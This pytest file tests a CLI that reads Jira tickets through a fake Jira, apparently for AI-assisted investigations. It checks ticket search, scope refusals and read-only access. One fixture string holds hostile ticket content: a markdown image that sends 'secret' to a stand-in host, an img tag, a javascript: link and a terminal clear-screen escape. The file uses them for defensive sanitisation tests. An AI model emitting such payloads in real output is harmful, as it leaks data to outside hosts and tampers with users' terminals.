"""A Jira behind the commands: its tickets are found, shown and investigated, and it is only read."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import Run
from tests.doubles.jira import Fault, Issue, Jira, Remark, Site

TRAP = "![](https://x.example/?d=secret) <img src=//x.example> [click](javascript:x) \x1b[2J"


@pytest.fixture
def jira(filled: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Jira]:
    """Return a Jira that is the only tracker of a workspace with logs in it."""
    issue = Issue(
        "OPS-7",
        "wf_alpha_20260131 does not move",
        description=TRAP,
        comments=[Remark(f"comment {number}") for number in range(129)] + [Remark("cause: DNS")],
    )
    with Jira(Site(issues=[issue, Issue("SECRET-1", "wf_alpha_20260131 hush")])) as double:
        with (filled / "copilot.yaml").open("a") as file:
            file.write(
                f"trackers: [{{name: desk, kind: jira, url: '{double.url}', projects: [OPS],"
                " user: ada@example.org}]\n"
            )
        monkeypatch.setenv("JIRA_DESK_TOKEN", double.site.token)
        yield double


def test_tickets_are_found_and_shown(jira: Jira, run: Run) -> None:
    found, shown = run("tickets", "search", "wf_alpha_20260131"), run("tickets", "show", "OPS-7")

    assert "OPS-7" in found.out
    assert "SECRET" not in found.out
    assert "cause: DNS" in shown.out
    assert "\x1b[2J" not in shown.out


def test_nothing_is_imported_into_a_jira(jira: Jira, run: Run) -> None:
    said = run("tickets", "import", "tickets.json")

    assert said.code == 2
    assert "its tickets are read where they are" in said.err


def test_a_ticket_out_of_scope_is_refused_in_words(jira: Jira, run: Run) -> None:
    said = run("tickets", "show", "SECRET-1")

    assert said.code == 2
    assert "SECRET-1 is not open here" in said.err


def test_a_ticket_is_investigated_and_the_jira_only_read(jira: Jira, run: Run) -> None:
    said = run("investigate", "OPS-7", "--model", "offline")

    assert said.code == 0
    assert {received.method for received in jira.requests} <= {"GET", "POST"}
    assert all(
        received.path.endswith(("/search/jql", "/serverInfo", "/myself"))
        or "/issue/OPS-" in received.path
        for received in jira.requests
    )
    assert len(jira.site.issues[0].comments) == 130


@pytest.mark.bad_input("B002")
def test_a_jira_that_is_down_does_not_end_an_investigation(jira: Jira, run: Run) -> None:
    """Over the logs it goes on."""
    jira.fault("/search/jql", *[Fault(403)] * 50)

    said = run("investigate", "wf_alpha_20260131", "--question", "Why?", "--model", "offline")

    assert said.code == 0
    assert "Traceback" not in said.out + said.err
